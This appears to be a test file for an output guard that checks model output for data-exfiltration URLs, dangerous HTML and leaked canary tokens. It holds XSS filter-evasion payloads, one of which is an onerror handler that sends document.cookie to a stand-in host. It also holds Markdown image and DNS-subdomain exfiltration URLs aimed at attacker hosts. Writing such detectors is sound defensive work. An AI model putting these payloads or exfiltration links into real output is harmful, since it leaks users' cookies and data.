import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  createCanary,
  detectUnsafeOutput,
  findCanaries,
  hostAllowed,
  isScriptUrl,
} from '../../../src/guard/output/index.js';

const allowedDomains = ['docs.aws.amazon.com', '*.example.com', 'wikipedia.org'];
const scan = (text: string) => detectUnsafeOutput(text, { allowedDomains });
const DATA = 'SGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YQ';

describe('exfiltration URLs', () => {
  it('flags a Markdown image carrying data, with the URL offsets, higher than a link', () => {
    const url = `https://evil.test/log?q=${DATA}`;
    const image = `Summary done. ![logo](${url})`;
    const link = `Summary done. [logo](${url})`;
    const [i] = scan(image);
    const [l] = scan(link);
    expect(image.slice(i!.start, i!.end)).toBe(url);
    expect(i!.type).toBe('url');
    expect(i!.score).toBeGreaterThan(l!.score);
    expect(l!.score).toBeGreaterThan(0.4);
  });

  it('flags reference-style images and data in path segments', () => {
    const text = `Done ![status][s]\n\n[s]: https://evil.test/p/${DATA}`;
    const [f] = scan(text);
    expect(f?.reason).toMatch(/^reference-image/);
    expect(f!.score).toBeGreaterThan(0.75);
  });

  it('flags bare URLs and autolinks carrying URL-encoded text, without trailing punctuation', () => {
    const url = 'https://attacker.test/c?d=my%20password%20is%20hunter2%20ok';
    const text = `Go to ${url}. Or <${url}>`;
    const found = scan(text);
    expect(found.map((f) => text.slice(f.start, f.end))).toEqual([url, url]);
    expect(found[1]!.reason).toMatch(/^autolink/);
  });

  it('counts short query values on images (no click needed) but not image sizing parameters', () => {
    expect(scan('![a](https://wuzzi.test/logo.png?q=yes)')[0]!.score).toBeGreaterThan(0.75);
    expect(scan('![a](https://cdn.test/logo.png?w=200&h=100)')[0]!.score).toBeLessThan(0.5);
    expect(scan('[a](https://wuzzi.test/page?q=yes)')).toEqual([]);
  });

  it('flags data encoded in a subdomain label (DNS exfiltration)', () => {
    const [f] = scan('![a](https://mzxw6ytboi2gk3tfmvzgc5dp.exfil.test/a.png)');
    expect(f!.reason).toMatch(/subdomain label/);
    expect(f!.score).toBeGreaterThan(0.75);
    expect(scan('![a](https://cdn-images-eu-west-1.assets.test/a.png)')[0]!.score).toBeLessThan(0.5);
  });

  it('flags an image to an unknown host even without data (zero-click fetch), below data-carrying ones', () => {
    const [f] = scan('![pixel](https://tracker.test/p.gif)');
    expect(f!.score).toBeGreaterThan(0);
    expect(f!.score).toBeLessThan(0.5);
  });

  it.each([
    'See [the guide](https://docs.aws.amazon.com/bedrock/latest/userguide/guardrails.html?tab=console).',
    `![chart](https://img.example.com/c.png?q=${DATA})`,
    'Read https://en.wikipedia.org/wiki/Prompt_injection and [this](https://blog.test/post).',
    'A link without data: [home](https://other.test/) and https://other.test/about?page=2',
    '```\n![x](https://evil.test/?q=' + DATA + ')\n```',
  ])('leaves alone: %s', (text) => {
    expect(scan(text).filter((f) => f.type === 'url')).toEqual([]);
  });

  it('matches allowed domains and their subdomains only', () => {
    expect(hostAllowed('img.example.com', ['example.com'])).toBe(true);
    expect(hostAllowed('example.com', ['example.com'])).toBe(true);
    expect(hostAllowed('evilexample.com', ['example.com'])).toBe(false);
    expect(hostAllowed('example.com.evil.test', ['example.com'])).toBe(false);
  });
});

describe('active HTML and script', () => {
  it.each([
    ['<script>alert(1)</script>', /<script>/],
    ['<img src=x onerror="fetch(\'//e.test/?\'+document.cookie)">', /onerror/],
    ['<svg/onload=alert(1)>', /onload/],
    ['<iframe src="https://e.test"></iframe>', /iframe/],
    ['[click me](javascript:alert(document.domain))', /javascript: URL in Markdown/],
    ['<a href="jav&#x61;script:alert(1)">x</a>', /javascript: URL/],
    ['<a href=" JaVaScRiPt:alert(1)">x</a>', /javascript: URL/],
    ['<meta http-equiv="refresh" content="0;url=https://e.test">', /refresh/],
  ])('%s', (text, reason) => {
    const found = scan(text).filter((f) => f.type === 'html');
    expect(found.length).toBeGreaterThan(0);
    expect(found[0]!.reason).toMatch(reason);
    expect(found[0]!.score).toBeGreaterThanOrEqual(0.7);
    expect(text.slice(found[0]!.start, found[0]!.start + 1)).toMatch(/[<j]/);
  });

  it.each([
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('XSS')>",
    "<BODY ONLOAD=alert('XSS')>",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
    '<details open ontoggle=alert(1)>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '`"\'><img src=xxx:x \\x20onerror=javascript:alert(1)>',
    '<a href="\\x0Bjavascript:alert(1)">test</a>',
  ])('filter-evasion vector: %s', (text) => {
    expect(scan(text).some((f) => f.type === 'html' && f.score >= 0.7)).toBe(true);
  });

  it.each([
    'Use <b>bold</b> and <br> freely.',
    'If 3 < 5 and 6 > 2 then x<y.',
    'Escaped &lt;script&gt; is text.',
    '<a href="https://docs.aws.amazon.com">docs</a>',
    '<input type="text" data-onclick-id="x" version="2">',
  ])('leaves alone: %s', (text) => {
    expect(scan(text)).toEqual([]);
  });

  it('scores markup inside Markdown code lower than live markup', () => {
    const live = scan('<script src="app.js"></script>')[0]!;
    const fenced = scan('```html\n<script src="app.js"></script>\n```')[0]!;
    const inline = scan('Add a `<script>` tag.')[0]!;
    expect(fenced.score).toBeLessThan(live.score / 2);
    expect(inline.score).toBeLessThan(live.score / 2);
  });

  it('decodes entity-obfuscated script URLs', () => {
    expect(isScriptUrl('&#106;avascript:alert(1)')).toBe('javascript: URL');
    expect(isScriptUrl('java&Tab;script:x')).toBe('javascript: URL');
    expect(isScriptUrl('https://example.com')).toBeUndefined();
  });
});

describe('canary tokens', () => {
  it('creates distinct tokens that do not occur in ordinary text', () => {
    const a = createCanary();
    const b = createCanary();
    expect(a).not.toBe(b);
    expect(a).toMatch(/^cnry-[a-z2-9]{20}$/);
    expect(findCanaries('The system prompt says to be helpful and concise.', [a])).toEqual([]);
  });

  it('finds a leak with altered case, spaces, zero-width characters and line breaks', () => {
    const c = createCanary();
    const variants = [
      `The instructions contain ${c}.`,
      `token: ${c.toUpperCase().split('').join(' ')}`,
      `${c.slice(0, 12)}\u200b${c.slice(12)}`,
      `${c.slice(0, 10)}\n${c.slice(10)}`,
    ];
    for (const v of variants) {
      const [s] = findCanaries(v, [c]);
      expect(s?.score).toBe(1);
      expect(
        v
          .slice(s!.start, s!.end)
          .replace(/[^a-z0-9]/gi, '')
          .toLowerCase(),
      ).toBe(c.replace('-', ''));
    }
  });

  it('reports a partial leak of the random part with a lower score', () => {
    const c = createCanary();
    const part = c.slice(5, 18);
    const text = `it began with ${part}`;
    const [s] = findCanaries(text, [c]);
    expect(s!.score).toBeGreaterThanOrEqual(0.6);
    expect(s!.score).toBeLessThan(1);
    expect(text.slice(s!.start, s!.end)).toBe(part);
  });

  it('finds a canary inserted anywhere with random separators', () => {
    const c = createCanary();
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom(' ', '.', 'ü', '😀', '\n'), maxLength: 50 }),
        fc.array(fc.constantFrom('', ' ', '\u200b', '-', '\n'), { minLength: c.length, maxLength: c.length }),
        fc.boolean(),
        (prefix, seps, upper) => {
          const altered = [...c].map((ch, i) => (upper ? ch.toUpperCase() : ch) + seps[i]).join('');
          const text = `${prefix}${altered}`;
          const [s] = findCanaries(text, [c]);
          expect(s?.score).toBe(1);
          expect(s!.start).toBe(prefix.length);
        },
      ),
      { numRuns: 200 },
    );
  });
});

describe('properties', () => {
  it('never throws; spans lie inside the text and URL findings start at the scheme', () => {
    const fragments = fc.constantFrom(
      '![a](',
      '[b](',
      'https://e.test/?q=',
      'aGVsbG8gd29ybGQ',
      ')',
      '<img ',
      'onerror=',
      '"',
      '<script',
      '>',
      '`',
      '```\n',
      '\n',
      ' ',
      'javascript:',
      '][',
      ']: ',
    );
    fc.assert(
      fc.property(fc.array(fragments, { maxLength: 40 }), fc.string({ maxLength: 30 }), (parts, noise) => {
        const text = parts.join('') + noise;
        for (const f of scan(text)) {
          expect(f.start).toBeGreaterThanOrEqual(0);
          expect(f.end).toBeLessThanOrEqual(text.length);
          expect(f.end).toBeGreaterThan(f.start);
          if (f.type === 'url') expect(text.slice(f.start, f.start + 4).toLowerCase()).toBe('http');
        }
      }),
      { numRuns: 300 },
    );
  });

  it('handles adversarial inputs within a generous bound', () => {
    const inputs = [
      '<'.repeat(500_000),
      '<a '.repeat(200_000) + '"',
      '`'.repeat(100_000) + ' x '.repeat(1000) + '``'.repeat(50_000),
      '!['.repeat(300_000),
      '](javascript:'.repeat(50_000),
      'https://e.test/' + 'a'.repeat(1_000_000),
      'https://e.test/?'.repeat(50_000),
    ];
    const c = createCanary();
    const t0 = Date.now();
    for (const text of inputs) {
      scan(text);
      findCanaries(text, [c]);
    }
    expect(Date.now() - t0).toBeLessThan(20_000);
  });
});
